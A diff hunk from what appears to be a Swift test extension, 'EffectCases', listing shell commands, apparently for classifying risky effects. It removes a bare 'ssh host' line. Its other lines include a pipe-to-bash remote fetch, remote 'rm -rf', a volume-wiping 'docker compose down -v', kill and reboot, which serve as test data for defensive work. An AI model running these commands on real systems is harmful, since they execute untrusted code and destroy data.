@@ -299,7 +299,6 @@ extension EffectCases {
     bash <(curl -s https://x)
     ssh host rm -rf /x
     ssh host 'docker compose down -v'
-    ssh host
     kill -9 123
     pkill -9 node
     reboot
